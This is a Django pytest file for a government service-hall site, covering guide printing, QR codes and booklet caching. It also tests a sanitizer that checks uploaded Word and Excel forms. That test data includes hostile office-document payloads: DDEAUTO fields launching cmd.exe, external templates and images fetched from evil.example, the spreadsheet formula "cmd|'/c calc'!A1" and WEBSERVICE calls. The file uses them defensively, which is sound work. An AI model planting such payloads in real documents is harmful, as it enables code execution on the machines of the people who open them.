"""What halls print of the guides, and what people take home."""

from __future__ import annotations

import fcntl
import io
import threading
import time
import zipfile
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest
from django.conf import settings
from django.test import Client
from django.urls import reverse

from halls.acting import acting_user
from halls.clean_office import DOCX, clean_office
from halls.domain.duties import PostKind
from halls.domain.errors import Busy, Invalid, NotFound, NotPermitted, Refused
from halls.models import Department, Hall
from matters import printing
from matters.actions.import_matters import import_matters
from matters.actions.keep_guide_file import keep_guide_file
from matters.models import GuideFile, Matter
from tests.factories.cases import a_picture
from tests.factories.halls import GAOQIAO, TAIHE, person_in_post
from tests.factories.matters import as_file, record

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("catalogue")]

EIGHT = (
    "办理事项名称和性质", "设立依据", "申报材料", "办理标准和文件", "办理程序", "办理时限", "收费标准和依据",
    "窗口权限",
)  # fmt: skip


TEMPLATE = '<R><Relationship TargetMode="External" Type="http://x/relationships/attachedTemplate" Target="a"/></R>'
SETTINGS = "word___rels__settings_dot_xml_dot_rels"
DOCUMENT = "word__document_dot_xml"
PICTURE = "<R><Relationship Type='http://x/relationships/image' Target='a' TargetMode='External'/></R>"


@pytest.fixture(autouse=True)
def _papers_elsewhere(settings: Any, tmp_path: Path) -> None:
    settings.DATA_DIR = tmp_path


def body(response: Any) -> bytes:
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def a_package(**parts: str | bytes) -> bytes:
    """Return a small DOCX; `parts` by name with __ for / and _dot_ for a dot."""
    named = {name.replace("__", "/").replace("_dot_", "."): data for name, data in parts.items()}
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as package:
        for name, data in ({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>"} | named).items():
            package.writestr(zipfile.ZipInfo(name), data)  # always of the same day
    return out.getvalue()


# Paper


def test_the_short_form_has_the_answers_the_checklist_and_a_qr(client: Client) -> None:
    html = client.get(reverse("guide_short", args=["NY-003"])).content.decode()
    assert html.count('<article class="sheet compact dense"') == 1
    for words in (
        "带什么",
        "□ 居民身份证",
        "去哪儿",
        "10 个工作日内办结（示例数据）",
        "含示例数据",
        "扫码看完整指南",
        "<svg",
    ):
        assert words in html


def test_the_qr_opens_the_guide(client: Client) -> None:
    response = client.get(reverse("guide_qr", args=["NY-003"]))
    assert response["Content-Type"] == "image/svg+xml"
    assert response.content.startswith(b"<svg xmlns=")
    assert b"<script" not in response.content
    assert client.get(reverse("guide_qr", args=["XX-999"])).status_code == 404


def test_the_qr_and_the_booklet_do_not_follow_the_host_that_somebody_asks_under(client: Client, settings: Any) -> None:
    def qr(**asked: Any) -> Any:
        return client.get(reverse("guide_qr", args=["NY-003"]), **asked)

    plain, foreign = qr(HTTP_HOST="localhost"), qr(HTTP_HOST="localhost:4001")
    assert plain.content == foreign.content
    assert plain["Cache-Control"] == "private, no-cache"
    assert qr(HTTP_HOST="localhost:4001", SERVER_PORT="4001").content != plain.content  # where we listen ourselves
    settings.SITE_ADDRESS = "https://zwfw.example.gov.cn"
    one = qr(HTTP_HOST="localhost")
    assert one.content == qr(HTTP_HOST="testserver", SERVER_PORT="8000").content != plain.content
    assert one["Cache-Control"].startswith("public")
    for host in ("testserver", "localhost:9", "127.0.0.1:4001"):
        body(client.get(reverse("hall_booklet", args=[GAOQIAO]), HTTP_HOST=host))
    assert len(list((Path(settings.DATA_DIR) / "papers").glob("booklet-*.pdf"))) == 1


def test_the_board_makes_the_eight_things_public(client: Client) -> None:
    html = client.get(reverse("hall_board", args=[TAIHE])).content.decode()
    head = html[html.index("<thead>") : html.index("</thead>")]
    places = [head.index(words) for words in EIGHT]
    assert places == sorted(places)
    assert (
        html.count('<th scope="row">') == Matter.objects.filter(current__accept_levels__contains=["township"]).count()
    )
    assert "受理并决定" in html
    assert client.get(reverse("hall_board", args=["nowhere"])).status_code == 404


def test_a_village_point_decides_nothing(client: Client) -> None:
    html = client.get(reverse("hall_board", args=[GAOQIAO])).content.decode()
    assert "代办：收件、核对、送件，不作决定" in html


def test_the_booklet_is_set_once_for_its_content(client: Client) -> None:
    address = reverse("hall_booklet", args=[GAOQIAO])
    first = body(client.get(address))
    assert first.startswith(b"%PDF-")
    folder = Path(settings.DATA_DIR) / "papers"
    (paper,) = folder.glob("booklet-*.pdf")
    stamp = paper.stat().st_mtime_ns
    assert body(client.get(address)) == first
    assert paper.stat().st_mtime_ns == stamp
    import_matters(as_file(record("NY-003", notes="x", conditions=["新的条件"])))
    assert body(client.get(address)) != first
    assert len(list(folder.glob("booklet-*.pdf"))) == 2
    assert client.get(address, {"volume": "2"}).status_code == 404
    assert client.get(address, {"volume": "x"}).status_code == 404


def test_a_paper_asked_for_by_many_at_once_is_set_once() -> None:
    asked: list[int] = []

    def data() -> dict[str, Any]:
        asked.append(1)
        return BLANK

    def ask() -> None:
        with suppress(Busy):  # whoever comes while it is set is asked to come again
            printing.paper("blank", "same", data)

    threads = [threading.Thread(target=ask) for _ in range(6)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert len(asked) == 1


def test_whoever_finds_the_machine_at_work_is_told_at_once_when_to_come_again(client: Client) -> None:
    """Eight who ask for booklets must not hold every thread of the site."""
    folder = Path(settings.DATA_DIR) / "papers"
    folder.mkdir(parents=True, exist_ok=True)
    with (folder / "lock").open("w") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        begun = time.monotonic()
        response = client.get(reverse("guide_blank", args=["NY-003", 1]))
        assert time.monotonic() - begun < 5
    assert response.status_code == 503
    assert response["Retry-After"] == "30"
    assert "正在排版别的文件" in response.content.decode()
    assert body(client.get(reverse("guide_blank", args=["NY-003", 1]))).startswith(b"%PDF-")


def test_a_paper_that_cannot_be_set_is_refused_and_logged(caplog: pytest.LogCaptureFixture, tmp_path: Path) -> None:
    (tmp_path / "broken.typ").write_text('#panic("no such paper")')
    with pytest.raises(Refused) as caught:
        printing.paper("broken", "x", dict, home=tmp_path)
    assert caught.value.code == "paper_failed"
    assert "no such paper" in caplog.text
    assert not list((Path(settings.DATA_DIR) / "papers").glob("broken-*"))


def test_more_papers_are_kept_than_a_county_has_halls() -> None:
    assert printing.KEPT > Hall.objects.count() > 400


BLANK = {
    "title": "申请表", "matter": '#panic("x")', "code": "X", "warning": "示例", "fields": ["姓名", "住址"],
    "note": "$x^2$ *a*",
}  # fmt: skip


def test_a_blank_form_made_by_the_system_says_so(client: Client) -> None:
    response = client.get(reverse("guide_blank", args=["NY-003", 1]))
    assert body(response).startswith(b"%PDF-")
    assert "attachment" in response["Content-Disposition"]
    assert client.get(reverse("guide_blank", args=["NY-003", 3])).status_code == 404  # an identity card is no form
    assert "非官方制式" in client.get(reverse("guide", args=["NY-003"])).content.decode()


# Files


@pytest.fixture
def editor() -> Any:
    return acting_user(person_in_post(PostKind.CATALOGUE_EDITOR, Department.objects.get(code="500236-MZ")))


def test_an_editor_publishes_a_form_and_people_save_it(client: Client, editor: Any) -> None:
    before = Matter.objects.get(code="MZ-001").changed_at
    kept = keep_guide_file("MZ-001", "../申请书.docx.exe", a_package(), actor=editor)
    assert (kept.name, kept.media_type) == ("申请书_docx.docx", DOCX)
    assert Matter.objects.get(code="MZ-001").changed_at == before, "no guide names it yet"
    assert keep_guide_file("MZ-001", "申请书.docx.exe", a_package(), actor=editor) == kept
    whole = record("MZ-001")
    whole["materials"][0] |= {"blank": kept.name}
    import_matters(as_file(whole))
    address = reverse("guide_file", args=["MZ-001", kept.pk])
    html = client.get(reverse("guide", args=["MZ-001"])).content.decode()
    assert f'href="{address}"' in html
    response = client.get(address)
    assert response.content == a_package()
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Disposition"].startswith("attachment")
    assert "sandbox" in response["Content-Security-Policy"]
    assert client.get(reverse("guide_file", args=["NY-003", kept.pk])).status_code == 404


def test_a_picture_is_saved_too_and_never_shown(client: Client, editor: Any) -> None:
    kept = keep_guide_file("MZ-001", "样表", a_picture(), actor=editor)
    whole = record("MZ-001")
    whole["materials"][0] |= {"sample": kept.name}
    import_matters(as_file(whole))
    response = client.get(reverse("guide_file", args=["MZ-001", kept.pk]))
    assert response["Content-Disposition"].startswith("attachment")


def test_a_new_file_takes_the_place_of_the_old(client: Client, editor: Any) -> None:
    old = keep_guide_file("MZ-001", "申请书.docx", a_package(), actor=editor)
    new = keep_guide_file("MZ-001", "申请书.docx", a_package(word__styles_dot_xml="<w:styles/>"), actor=editor)
    assert new != old
    assert GuideFile.objects.get(pk=old.pk).replaced_at == new.uploaded_at
    assert client.get(reverse("guide_file", args=["MZ-001", old.pk])).status_code == 404


def test_only_the_editors_of_its_department_publish_files(editor: Any) -> None:
    with pytest.raises(NotPermitted):
        keep_guide_file("NY-003", "a.docx", a_package(), actor=editor)
    with pytest.raises(NotFound):
        keep_guide_file("XX-999", "a.docx", a_package(), actor=editor)
    assert not GuideFile.objects.exists()


@pytest.mark.parametrize(("data", "code"), [
    (b"", "file_empty"), (b"MZ\x90\x00", "file_type"), (b"PK\x03\x04junk", "file_damaged"), (b"<html>", "file_type"),
    (b"PK\x03\x04" + b"0" * (10 * 1024 * 1024), "file_too_large"),
])  # fmt: skip
def test_what_is_no_form_is_refused(editor: Any, data: bytes, code: str) -> None:
    with pytest.raises(Invalid) as refusal:
        keep_guide_file("MZ-001", "a.docx", data, actor=editor)
    assert refusal.value.code == code


@pytest.mark.parametrize("parts", [
    {"word__vbaProject_dot_bin": b"x"}, {"word__embeddings__a_dot_docx": b"x"}, {"word__activeX__a_dot_xml": "<x/>"},
    {"xl__externalLinks__a_dot_xml": "<x/>"}, {"word__document_dot_xml": "<!DOCTYPE x [<!ENTITY a 'b'>]><w/>"},
    {"word__document_dot_xml": "<w:instrText>DDEAUTO cmd</w:instrText>"},
    {"word___rels__settings_dot_xml_dot_rels": TEMPLATE}, {"word___rels__document_dot_xml_dot_rels": PICTURE},
    {"run_dot_exe": b"x"}, {"word__a_dot_html": "<script>"},
])  # fmt: skip
def test_a_form_that_runs_or_fetches_is_refused(parts: dict[str, Any]) -> None:
    with pytest.raises(Invalid, match="宏"):
        clean_office(a_package(**parts), "file")


def a_relation(kind: str, target: str = "http://evil.example/a", mode: str = ' TargetMode="External"') -> str:
    return f'<R><Relationship Id="r" Type="http://x/relationships/{kind}" Target="{target}"{mode}/></R>'


def a_field(*runs: str) -> str:
    said = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    return f"<w:document><w:p>{said}</w:p></w:document>"


MARKED = (
    '<w:d><w:p><w:fldChar w:fldCharType="begin"/><w:instrText>DDE</w:instrText></w:p>'
    '<w:p><w:instrText>AUTO c:\\\\cmd.exe</w:instrText><w:fldChar w:fldCharType="end"/></w:p></w:d>'
)


@pytest.mark.parametrize("parts", [
    {SETTINGS: '<?xml version="1.0" encoding="UTF-16"?>'.encode("utf-16") + TEMPLATE.encode("utf-16-le")},
    {SETTINGS: '<?xml version="1.0" encoding="gbk"?><R/>'}, {SETTINGS: TEMPLATE.replace("External", "&#69;xternal")},
    {SETTINGS: a_relation("attachedTemplate", "http://evil.example/?a>b")},
    {SETTINGS: a_relation("attachedTemplate", "http://evil.example/relationships/hyperlink")},
    {"word___rels__settings_dot_xml_dot_RELS": TEMPLATE}, {SETTINGS: a_relation("image", mode="")},
    {SETTINGS: a_relation("hyperlink", "file://evil/a.exe")}, {SETTINGS: a_relation("hyperlink", "javascript:x")},
    {SETTINGS: a_relation("x/hyperlink/attachedTemplate")}, {SETTINGS: a_relation("aFChunk", "a.mht", "")},
    {SETTINGS: a_relation("oleObject", "a.png", "")}, {SETTINGS: a_relation("subDocument", "a.xml", "")},
    {SETTINGS: a_relation("frame", "a.xml", "")}, {DOCUMENT: a_field("DD", 'EAUTO c:\\cmd.exe "/k calc"')},
    {DOCUMENT: a_field("D&#68;EAUTO c:\\cmd.exe")}, {DOCUMENT: a_field('INCLUDEPICTURE "\\evil\\a.png"')},
    {DOCUMENT: MARKED}, {DOCUMENT: '<w:p><w:fldSimple w:instr=" INCLUDETEXT http://evil/a "/></w:p>'},
    {DOCUMENT: a_field("QUOTE 68 68 69")}, {DOCUMENT: '<w:p><w:altChunk r:id="r9"/></w:p>'},
    {DOCUMENT: '<w:pict><v:imagedata src="http://evil/a.png"/></w:pict>'},
    {"xl__worksheets__sheet1_dot_xml": "<c><f>cmd|'/c calc'!A1</f></c>"},
    {"xl__worksheets__sheet1_dot_xml": '<c><f>_xlfn.WEBSERVICE("http://evil/")</f></c>'},
    {"word__a_dot_scr": b"MZ"}, {"word__a_dot_hta": b"x"}, {"word__a_dot_rtf": b"{"}, {"word__afchunk_dot_mht": b"<"},
    {"word__a": b"x"}, {"[Content_Types]_dot_xml": '<T><Override PartName="/word/a.png" ContentType="a+xml"/></T>'},
    {"[Content_Types]_dot_xml": '<T><Override PartName="/word/document.xml" ContentType="a.macroEnabled+xml"/></T>'},
])  # fmt: skip
def test_no_spelling_of_what_runs_or_fetches_passes(parts: dict[str, Any]) -> None:
    with pytest.raises(Invalid, match="宏"):
        clean_office(a_package(**parts), "file")


def test_an_honest_form_of_an_office_suite_is_left() -> None:
    held = a_package(
        word__document_dot_xml='<?xml version="1.0" encoding="utf-8" standalone="yes"?>'
        + a_field("HYPERLINK ", '"http://x/"').replace("</w:p>", "<w:t>DDE 数据、INCLUDE</w:t></w:p>"),
        word__media__image1_dot_PNG=b"x", word__media__image2_dot_emf=b"x", word__fonts__font1_dot_odttf=b"x",
        xl__printerSettings__printerSettings1_dot_bin=b"x", xl__drawings__vmlDrawing1_dot_vml="<xml/>",
        xl__worksheets__sheet1_dot_xml='<c><f>SUM(A1:A9)&amp;"|a!"</f></c>',
        word___rels__document_dot_xml_dot_rels=a_relation("image", "media/image1.PNG", "")
        + "<!-- a template it once had -->",
    )  # fmt: skip
    assert clean_office(held, "file")[1] == DOCX


def test_two_parts_of_one_name_and_what_is_no_xml_are_refused() -> None:
    with pytest.raises(Invalid, match="同名"):
        clean_office(a_package(word__Document_dot_xml="<w/>"), "file")
    with pytest.raises(Invalid, match="读不通"):
        clean_office(a_package(word__styles_dot_xml="<w>"), "file")


def test_a_link_that_one_must_press_is_left() -> None:
    link = '<R><Relationship Type="http://x/relationships/hyperlink" Target="http://x/" TargetMode="External"/></R>'
    assert clean_office(a_package(word___rels__document_dot_xml_dot_rels=link), "file")[1] == DOCX


def test_a_package_that_is_a_bomb_is_refused() -> None:
    with pytest.raises(Invalid, match="过大"):
        clean_office(a_package(word__big_dot_xml=b"0" * (41 * 1024 * 1024)), "file")
    with pytest.raises(Invalid, match="不是 Word"):
        clean_office(a_package().replace(b"word/document.xml", b"wort/document.xml"), "file")
